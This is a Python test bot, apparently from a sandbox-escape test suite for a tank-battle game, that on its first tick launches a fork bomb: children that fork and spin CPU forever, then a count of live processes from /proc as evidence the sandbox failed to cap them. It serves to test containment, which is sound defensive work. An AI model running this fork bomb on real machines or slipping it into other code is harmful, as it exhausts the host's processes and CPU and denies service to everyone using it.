"""Hostile Tanks bot: fork bomb.

On its first tick the bot forks children that fork again forever, each
child spinning so that the tree also burns CPU. Without the sandbox the tree
grows until the host's process table is full. The sandbox must cap the
number of processes (pids cgroup, RLIMIT_NPROC) or forbid fork, charge the
tree's CPU to the bot, and kill every process of the tree when the fight
ends: the escape driver looks for any process left behind.
"""
# @ESCAPE_PRELUDE@


def live_processes_of_my_uid():
    """Processes of this uid alive now, read from /proc: the size of the
    tree at this moment. A sandbox shows no /proc at all (0), and caps the
    tree far below the evidence threshold anyway. (A counter the children
    bump in shared memory would lose updates: they race.)"""
    uid = os.getuid()
    n = 0
    try:
        pids = [p for p in os.listdir('/proc') if p.isdigit()]
    except OSError:
        return 0
    for pid in pids:
        try:
            if os.stat('/proc/' + pid).st_uid == uid:
                n += 1
        except OSError:
            pass
    return n


def child_forever():
    # A child never returns into the harness: it keeps forking and spinning.
    while True:
        try:
            os.fork()
        except OSError:
            pass
        if CFG.get('spin', True):
            x = 0
            for i in range(20000):
                x += i
        else:
            time.sleep(0.05)


def attack():
    name_process()
    cap = int(CFG.get('fork_cap', 100000))
    made = 0
    started = time.monotonic()
    while made < cap and time.monotonic() - started < 3.0:
        try:
            pid = os.fork()
        except OSError as e:
            sys.stderr.write('note: fork failed after %d children: %s\n' % (made, e))
            break
        if pid == 0:
            try:
                child_forever()
            finally:
                os._exit(0)
        made += 1
    time.sleep(0.2)
    total = live_processes_of_my_uid()
    # Far more processes than any bot needs: a sandbox caps this well below.
    if total >= int(CFG.get('fork_evidence', 200)):
        evidence('the tree holds %d processes' % total)
    sys.stderr.write('note: forked %d children, %d processes in the tree\n' % (made, total))


# @ESCAPE_ATTACK_MAIN@
